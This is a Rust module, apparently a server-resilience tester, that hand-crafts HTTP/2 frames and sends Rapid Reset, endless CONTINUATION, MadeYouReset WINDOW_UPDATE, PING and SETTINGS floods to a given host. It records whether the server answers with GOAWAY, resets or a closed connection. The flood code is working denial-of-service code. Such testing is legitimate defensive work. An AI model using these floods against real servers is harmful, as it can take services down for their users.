//! HTTP/2 frames by hand, as no honest peer sends them: the kinds of flood, and one connection that sends one.

use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::net::tcp::OwnedReadHalf;
use tokio::time::{Instant, sleep, timeout_at};
use tokio_util::task::AbortOnDropHandle;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Frames written at once.
const BURST: usize = 100;

/// A flood that is not through by then is taken as it is.
const TIME_MAX: Duration = Duration::from_secs(10);

/// What was written has been dealt with by then.
const SETTLES_WITHIN: Duration = Duration::from_secs(1);

/// What is sent in masses.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Flood {
    /// Requests that are reset at once.
    RapidReset,
    /// Pieces of a header that never ends.
    Continuation,
    /// Pieces of a body that hold nothing.
    EmptyData,
    /// Requests that the server must reset, because they widen their window by nothing.
    WindowUpdateZero,
    /// Requests that the server must reset, because they widen their window beyond what is allowed.
    WindowUpdateOverflow,
    /// Pings, each of which is owed an answer.
    Ping,
    /// Pings whose answers are not read.
    PingUnread,
    /// Settings, each of which is owed an answer.
    Settings,
}

/// What became of a flood.
#[derive(Clone, Copy, Debug, Default)]
pub(super) struct Outcome {
    /// Frames that were written before the end.
    pub(super) sent: usize,
    /// The error code of the `GOAWAY`, if there was one.
    pub(super) goaway: Option<u32>,
    /// The connection was closed by the server.
    pub(super) closed: bool,
    /// Streams that the server reset.
    pub(super) resets: usize,
}

impl Flood {
    pub(super) const ALL: [Self; 8] = [
        Self::RapidReset,
        Self::Continuation,
        Self::EmptyData,
        Self::WindowUpdateZero,
        Self::WindowUpdateOverflow,
        Self::Ping,
        Self::PingUnread,
        Self::Settings,
    ];

    pub(super) const fn what(self) -> &'static str {
        match self {
            Self::RapidReset => "HEADERS and RST_STREAM (Rapid Reset)",
            Self::Continuation => "CONTINUATION without end",
            Self::EmptyData => "empty DATA",
            Self::WindowUpdateZero => "HEADERS and WINDOW_UPDATE of 0 (MadeYouReset)",
            Self::WindowUpdateOverflow => "HEADERS and WINDOW_UPDATE that overflows (MadeYouReset)",
            Self::Ping => "PING",
            Self::PingUnread => "PING, the answers not read",
            Self::Settings => "SETTINGS",
        }
    }

    /// What is sent first, once.
    fn opening(self) -> Vec<u8> {
        let mut bytes = PREFACE.to_vec();
        put(&mut bytes, SETTINGS, 0, 0, &[]);
        match self {
            Self::Continuation => put(&mut bytes, HEADERS, 0, 1, &request(GET)),
            Self::EmptyData => put(&mut bytes, HEADERS, END_HEADERS, 1, &request(POST)),
            _ => {}
        }
        bytes
    }

    /// The frame, or the two, of this number.
    fn frames(self, number: u32, bytes: &mut Vec<u8>) {
        let stream = 2 * number + 1;
        let widen = |bytes: &mut Vec<u8>, by: u32| {
            put(bytes, HEADERS, END_HEADERS, stream, &request(POST));
            put(bytes, WINDOW_UPDATE, 0, stream, &by.to_be_bytes());
        };
        match self {
            Self::RapidReset => {
                put(bytes, HEADERS, END_HEADERS | END_STREAM, stream, &request(GET));
                put(bytes, RST_STREAM, 0, stream, &8_u32.to_be_bytes());
            }
            Self::Continuation => put(bytes, CONTINUATION, 0, 1, b"\x00\x05flood\x05flood"),
            Self::EmptyData => put(bytes, DATA, 0, 1, &[]),
            Self::WindowUpdateZero => widen(bytes, 0),
            Self::WindowUpdateOverflow => widen(bytes, u32::MAX >> 1),
            Self::Ping | Self::PingUnread => put(bytes, PING, 0, 0, &u64::from(number).to_be_bytes()),
            Self::Settings => put(bytes, SETTINGS, 0, 0, &[]),
        }
    }

    /// Sends it over one connection.
    pub(super) async fn send(self, host: &str, port: u16, count: u32) -> anyhow::Result<Outcome> {
        let stream = TcpStream::connect((host, port)).await?;
        let (reading, mut writing) = stream.into_split();
        let answers = Arc::<Mutex<Outcome>>::default();
        let reading = match self {
            Self::PingUnread => Ok(reading),
            _ => Err(AbortOnDropHandle::new(tokio::spawn(read(reading, answers.clone())))),
        };
        let due = Instant::now() + TIME_MAX;
        let mut sent = 0;
        let opened = writing.write_all(&self.opening()).await;
        let numbers: Vec<u32> = (0..count).collect();
        for burst in numbers.chunks(BURST).take_while(|_| opened.is_ok()) {
            let mut bytes = Vec::new();
            burst.iter().for_each(|number| self.frames(*number, &mut bytes));
            match timeout_at(due, writing.write_all(&bytes)).await {
                Ok(Ok(())) => sent += burst.len(),
                _ => break,
            }
        }
        // What was sent is still being dealt with; a server that cuts it off does so now.
        let settled = Instant::now() + SETTLES_WITHIN;
        let so_far = || *answers.lock().unwrap_or_else(PoisonError::into_inner);
        while !so_far().closed && Instant::now() < settled {
            sleep(Duration::from_millis(20)).await;
        }
        let outcome = Outcome { sent, ..so_far() };
        drop((reading, writing));
        Ok(outcome)
    }
}

/// Reads until the connection ends, and counts what the server says.
async fn read(mut reading: OwnedReadHalf, answers: Arc<Mutex<Outcome>>) {
    let mut head = [0_u8; 9];
    while reading.read_exact(&mut head).await.is_ok() {
        let mut payload = vec![0; u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize];
        if reading.read_exact(&mut payload).await.is_err() {
            break;
        }
        let mut outcome = answers.lock().unwrap_or_else(PoisonError::into_inner);
        match head[3] {
            GOAWAY => {
                let code = payload.get(4..8).and_then(|code| code.try_into().ok()).map(u32::from_be_bytes);
                outcome.goaway = code.or(outcome.goaway);
            }
            RST_STREAM => outcome.resets += 1,
            _ => {}
        }
    }
    answers.lock().unwrap_or_else(PoisonError::into_inner).closed = true;
}

const GET: u8 = 0x82;
const POST: u8 = 0x83;

/// The header block of a request for `/`: HPACK's static table, and the authority as a literal.
fn request(method: u8) -> Vec<u8> {
    [&[method, 0x86, 0x84, 0x41, 9][..], b"localhost"].concat()
}

fn put(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    bytes.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    bytes.extend_from_slice(&[kind, flags]);
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
}
